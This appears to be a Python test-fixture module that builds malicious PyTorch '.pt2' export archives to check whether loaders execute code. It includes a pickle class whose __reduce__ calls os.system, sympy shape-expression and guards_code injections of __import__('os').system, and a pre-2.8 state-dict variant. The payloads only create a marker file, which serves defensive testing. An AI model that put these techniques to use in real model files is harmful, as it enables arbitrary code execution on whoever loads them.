"""``.pt2`` archives an attacker would hand over: a valid ``torch.export.save`` program plus an entry
torch 2.13's loader unpickles with ``weights_only=False``, holding an object whose ``__reduce__`` runs
``touch <marker>``. If anything loads such an archive, the marker file appears.

The three ways in through pickle: the legacy ``data/weights/<model>.pt`` and
``data/constants/<model>.pt`` entries (preferred over the payload configs when present), and a pre-2.8
archive's ``serialized_state_dict.pt`` beside a dummy weights config (the old deny-list wanted one).
A fourth shows the legacy entry to torch's zip reader only (``crafted_archives``: two central
directories). Three more need no pickle at all: a shape expression in ``models/model.json`` (the loader
evaluates it with ``sympy.sympify``), one that is a plain sympy constructor call whose string argument
sympy evaluates in turn (``Tuple("__import__('os')...")``), and a guard in its ``guards_code``
(``module()`` executes those by default).
"""

from __future__ import annotations

import io
import json
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn

VARIANTS = ("legacy_weights", "legacy_constants", "pre_2_8_state_dict", "sympy_expression",
            "sympy_string_argument", "two_central_directories")  # fmt: skip


class RunsCode:
    """Unpickling this runs a shell command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return (os.system, (self.command,))


def code_pickle(marker: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save(RunsCode(f"touch {marker}"), buffer)
    return buffer.getvalue()


def linear_program(path: Path) -> Path:
    """A valid program: ``nn.Linear(3, 2)`` with a dynamic batch axis (input ``input``, output ``output``)."""
    batch = torch.export.Dim("batch", min=1, max=16)
    program = torch.export.export(nn.Linear(3, 2).eval(), (torch.randn(2, 3),), dynamic_shapes=({0: batch},))
    torch.export.save(program, str(path))
    return path


def _with_entry(base: Path, target: Path, relative: str, data: bytes) -> None:
    with zipfile.ZipFile(base) as old, zipfile.ZipFile(target, "w") as new:
        prefix = old.namelist()[0].split("/")[0]
        for item in old.infolist():
            new.writestr(item, old.read(item.filename))
        new.writestr(f"{prefix}/{relative}", data)


def with_program_text(base: Path, target: Path, change: Callable[[str], str]) -> Path:
    """``base`` with its ``models/model.json`` text passed through ``change``."""
    with zipfile.ZipFile(base) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename.endswith("/models/model.json"):
                data = change(data.decode()).encode()
            new.writestr(item, data)
    return target


def _code(marker: Path) -> str:
    return f"__import__('os').system('touch {marker}')"


def with_expression(base: Path, target: Path, expression: str) -> Path:
    """``base`` with its first shape expression (an ``expr_str``) replaced by ``expression``."""
    pattern = re.compile(r'"expr_str": "(?:[^"\\]|\\.)*"')
    replacement = json.dumps({"expr_str": expression})[1:-1]
    with_program_text(base, target, lambda text: pattern.sub(lambda _: replacement, text, 1))
    return target


def with_guard_code(base: Path, target: Path, marker: Path) -> Path:
    """``base`` with a guard that runs code: executed by ``ExportedProgram.module()`` (check_guards)."""

    def change(text: str) -> str:
        program = json.loads(text)
        program["guards_code"] = [f"{_code(marker)} == 0"]
        return json.dumps(program)

    with_program_text(base, target, change)
    return target


def _pre_2_8(target: Path, marker: Path) -> None:
    from torch._export.serde.serialize import SCHEMA_VERSION, serialize

    artifact = serialize(torch.export.export(nn.Linear(3, 2).eval(), (torch.randn(2, 3),)))
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("version", ".".join(map(str, SCHEMA_VERSION)))
        archive.writestr("serialized_exported_program.json", artifact.exported_program)
        archive.writestr("serialized_state_dict.pt", code_pickle(marker))
        archive.writestr("serialized_constants.pt", artifact.constants)
        archive.writestr("serialized_example_inputs.pt", artifact.example_inputs)
        archive.writestr("program/data/weights/model_weights_config.json", '{"config": {}}')


def craft(variant: str, base: Path, target: Path, marker: Path) -> Path:
    """``target``: ``base`` (a valid program) made hostile the ``variant`` way."""
    if variant == "legacy_weights":
        _with_entry(base, target, "data/weights/model.pt", code_pickle(marker))
    elif variant == "legacy_constants":
        _with_entry(base, target, "data/constants/model.pt", code_pickle(marker))
    elif variant == "sympy_expression":
        with_expression(base, target, _code(marker))
    elif variant == "sympy_string_argument":  # a sympy class the old check allowed; it sympifies its argument
        with_expression(base, target, f"Tuple({_code(marker)!r})")
    elif variant == "pre_2_8_state_dict":
        _pre_2_8(target, marker)
    else:  # an archive two zip readers read differently (``crafted_archives.CONSTRUCTIONS``)
        from crafted_archives import hostile_archive  # it builds on this module's pickle

        target.write_bytes(hostile_archive(variant, base, marker))
    return target
